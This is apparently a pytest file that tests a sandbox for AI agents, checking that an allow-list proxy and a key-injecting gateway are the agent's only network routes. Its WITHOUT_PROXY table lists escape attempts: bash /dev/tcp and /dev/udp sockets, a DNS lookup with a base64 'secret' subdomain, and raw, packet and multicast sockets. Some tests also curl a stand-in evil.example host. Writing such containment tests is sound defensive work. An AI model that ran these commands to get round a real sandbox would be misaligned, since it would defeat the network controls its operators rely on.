"""Gateway and proxy in the real sandbox: what is reachable through them, and that nothing is reachable without them.

Attacks A66, A67, A72 and A77 of the catalogue; attacks by requests to the proxy are in `test_proxy_attacks`.
"""

import shlex
import socket
from collections.abc import AsyncGenerator
from functools import partial
from pathlib import Path

import anyio
import pytest
from gateway_world import ANYTHING, KEY, Echo
from proxy_world import Host, a_host, own_address, serving_tcp

from donewhen.engines.external.network.gateway import RequestLog, serve_gateway
from donewhen.engines.external.network.hosts import Rules
from donewhen.engines.external.network.proxy import ConnectionLog, serve_proxy
from donewhen.engines.external.network.upstream import Upstream
from donewhen.workspace.process.command import Finished
from donewhen.workspace.sandbox.guest import Guest, InnerPort
from donewhen.workspace.sandbox.sandbox import SandboxConfig, TreeSandbox
from needs import needs
from workspace.sandbox_scenes import SandboxScene, output, run, sandbox_scene

pytestmark = pytest.mark.anyio
PROXY, GATEWAY = 4801, 4802
ADDRESS = f"http://127.0.0.1:{PROXY}"
VARIABLES: tuple[str, ...] = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy")
ENV: dict[str, str] = dict.fromkeys(VARIABLES, ADDRESS)
CURL = "curl -sS --max-time 20"


@pytest.fixture
async def place(tmp_path: Path) -> AsyncGenerator[SandboxScene]:
    async with sandbox_scene(tmp_path) as found:
        yield found


def with_proxy(place: SandboxScene, rules: Rules, log: list[ConnectionLog], network: bool = False) -> TreeSandbox:
    async def serve(listener: socket.socket) -> None:
        await serve_proxy(listener, rules, log.append)

    room = place.room(SandboxConfig(network=network))
    return room.with_guest(Guest(env=ENV, inner_ports=(InnerPort(PROXY, serve),)))


def printed(finished: Finished) -> str:
    return finished.stdout.whole().decode("utf-8", "replace")


async def test_an_agent_reaches_a_named_endpoint_and_gets_a_reason_for_another(place: SandboxScene) -> None:
    needs("curl")
    log: list[ConnectionLog] = []
    async with a_host() as host, a_host() as other:
        room = with_proxy(place, Rules(targets=frozenset({("localhost", host.port)})), log)
        assert await output(room, f"{CURL} --noproxy '' http://localhost:{host.port}/x") == "hello"
        refused = await output(room, f"{CURL} --noproxy '' http://localhost:{other.port}/x")
        assert refused == "donewhen: localhost is not a host that this agent may reach"
        tunnel = await run(room, f"{CURL} --noproxy '' https://evil.example/")
        assert not tunnel.ok and "403" in printed(tunnel)
    assert other.heard == b""
    assert [one.verdict for one in log] == ["allowed", "refused", "refused"]


async def test_an_agent_talks_to_its_model_without_holding_the_key(place: SandboxScene) -> None:
    needs("curl")
    log: list[RequestLog] = []
    echo = Echo()
    async with serving_tcp(echo.handle) as port:
        upstream = Upstream(f"http://127.0.0.1:{port}/base", "x-api-key", KEY, ANYTHING)
        door = InnerPort(GATEWAY, partial(serve_gateway, upstream=upstream, log=log.append))
        room = place.room().with_guest(Guest(env={"API_KEY": "stand-in"}, inner_ports=(door,)))
        said = await output(
            room, f'{CURL} -i -H "x-api-key: $API_KEY" -d "a question" http://127.0.0.1:{GATEWAY}/v1/messages; env'
        )
    assert echo.field("x-api-key") == [KEY] and echo.bodies == [b"a question"]
    assert echo.heads[0].startswith(b"POST /base/v1/messages HTTP/1.1\r\n")
    assert "200 OK" in said and KEY not in said
    assert [(one.path, one.status) for one in log] == [("/v1/messages", 200)]


WITHOUT_PROXY = {
    "another program": "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/",
    "a socket of the shell": "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'",
    "the address of the machine": "bash -c 'exec 3<>/dev/tcp/{address}/{port}'",
    "a public address": "bash -c 'exec 3<>/dev/tcp/1.1.1.1/443'",
    "a name of its own": "getent ahosts c2VjcmV0.example.com",
    "a datagram": "bash -c 'echo x > /dev/udp/{address}/53'",
    "a raw socket": "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'",
    "a packet socket": "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)'",
    "a question by multicast": (
        "/usr/bin/python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
        's.sendto(b"x", ("224.0.0.251", 5353))\''
    ),
}


@pytest.mark.parametrize("attack", WITHOUT_PROXY)
async def test_without_the_proxy_there_is_no_route(place: SandboxScene, attack: str) -> None:
    with socket.create_server(("0.0.0.0", 0)) as daemon:
        command = WITHOUT_PROXY[attack].format(port=daemon.getsockname()[1], address=own_address())
        everything_allowed = Rules(anything_public=True)
        room = with_proxy(place, everything_allowed, [], network=True)
        unset = f"unset {' '.join(ENV)}; {command}"
        finished = await run(room, f"timeout 20 sh -c {shlex.quote(unset)}")
        assert not finished.ok, printed(finished)
        daemon.setblocking(False)
        with pytest.raises(BlockingIOError):
            daemon.accept()


@pytest.mark.parametrize("attack", ["another program", "a socket of the shell", "the address of the machine"])
async def test_with_the_network_of_the_machine_the_same_attempt_succeeds(place: SandboxScene, attack: str) -> None:
    async with serving_tcp(Host().handle, address="0.0.0.0") as port:
        command = WITHOUT_PROXY[attack].format(port=port, address=own_address())
        assert (await run(place.room(SandboxConfig(network=True)), command)).ok


async def test_a_broken_proxy_stops_the_agent_and_opens_nothing(place: SandboxScene) -> None:
    """The log breaks with the first connection; the caller gets the error, and the agent is stopped."""

    def broken(entry: ConnectionLog) -> None:
        raise MemoryError(entry.host)

    async def serve(listener: socket.socket) -> None:
        await serve_proxy(listener, Rules(), broken)

    room = place.room().with_guest(Guest(env=ENV, inner_ports=(InnerPort(PROXY, serve),)))
    with pytest.raises(ExceptionGroup) as broke, anyio.fail_after(60):
        await run(room, f"{CURL} http://evil.example/; while :; do {CURL} http://evil.example/ && touch reached; done")
    assert broke.group_contains(MemoryError)
    assert not (place.upper / "reached").exists()


async def test_an_ended_proxy_refuses_connections(place: SandboxScene) -> None:
    async def serve_one(listener: socket.socket) -> None:
        with anyio.move_on_after(0):
            await serve_proxy(listener, Rules(anything_public=True), lambda _: None)

    room = place.room(SandboxConfig(network=True)).with_guest(
        Guest(env=ENV, inner_ports=(InnerPort(PROXY, serve_one),))
    )
    finished = await run(room, f"{CURL} --retry 2 http://1.1.1.1/")
    assert finished.exit_code == 7, printed(finished)
